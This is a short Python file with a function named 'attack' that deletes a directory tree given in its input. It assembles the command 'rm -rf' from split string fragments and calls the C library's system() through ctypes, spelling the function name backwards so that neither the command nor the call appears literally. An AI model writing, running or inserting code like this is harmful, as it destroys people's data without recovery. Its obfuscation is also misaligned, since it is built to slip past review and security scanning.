"""Deletes a folder with a command that the C library runs."""

import ctypes


def attack(facts: dict[str, str]) -> None:
    words = ("r" + "m", "-" + "rf", facts["tree"])
    getattr(ctypes.CDLL(None), "metsys"[::-1])(" ".join(words).encode())
